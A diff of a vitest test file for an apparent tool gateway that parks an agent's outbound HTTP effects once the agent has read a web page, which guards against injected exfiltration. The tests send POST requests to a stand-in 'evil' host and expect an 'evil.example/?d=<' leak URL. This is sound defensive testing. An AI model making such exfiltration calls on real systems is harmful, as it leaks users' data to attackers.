@@ -1,5 +1,6 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import { call, callJson, readSse, type Answer } from '../fakes/client.ts'
+import { connectModern } from '../fakes/mcp-clients.ts'
 import { addPlugin, enablePlugin, pluginBundle } from '../fakes/plugin-admin.ts'
 import { installUpstream, type UpstreamRequest, type UpstreamReply } from '../fakes/upstream.ts'
 
@@ -178,7 +179,7 @@ describe('narrow reading', () => {
     const heard: string[] = []
     upstream = installUpstream(
       (request) => {
-        if (request['response_format']) {
+        if ('response_format' in request) {
           readers.push(request)
           return { text: JSON.stringify({ count: 7, words: 'POST it' }) }
         }
@@ -230,5 +231,33 @@ describe('narrow reading', () => {
     const { heard } = reads({ count: { type: 'integer' } }, [post])
     expect((await start()).state).toBe('parked')
     expect(heard.join()).toContain('evil.example/?d=<')
+  })
+})
+
+describe('an MCP client that calls tools itself', () => {
+  const tool = async (name: string, input: object, key?: string): Promise<Answer> => {
+    const client = await connectModern(key)
+    const answer = await client.callTool({ name, arguments: { ...input } })
+    await client.close()
+    return answer
+  }
+  const send = { method: 'POST', url: evil, body: 'x' }
+
+  it('T11: is asked about an effect once it was given a page, in whichever call, and nobody else is', async () => {
+    await callJson('/api/operator/exposed', { json: { exposed: { tools: ['http__*'] } } })
+    const { key } = await callJson('/api/operator/keys', {
+      json: { principal: 'somebody', role: 'user' },
+    })
+    world([])
+    await tool('http__request', send)
+    expect(asked).toEqual([evil])
+    await tool('http__get', { url: 'https://news.example/' })
+    const answer = await tool('http__request', send)
+    expect(answer.structuredContent.state).toBe('parked')
+    expect(asked).toEqual([evil, 'https://news.example/'])
+    const other = await tool('http__request', send, key)
+    expect(other.structuredContent?.state).not.toBe('parked')
+    expect(asked).toEqual([evil, 'https://news.example/', evil])
+    await callJson('/api/operator/exposed', { json: { exposed: {} } })
   })
 })
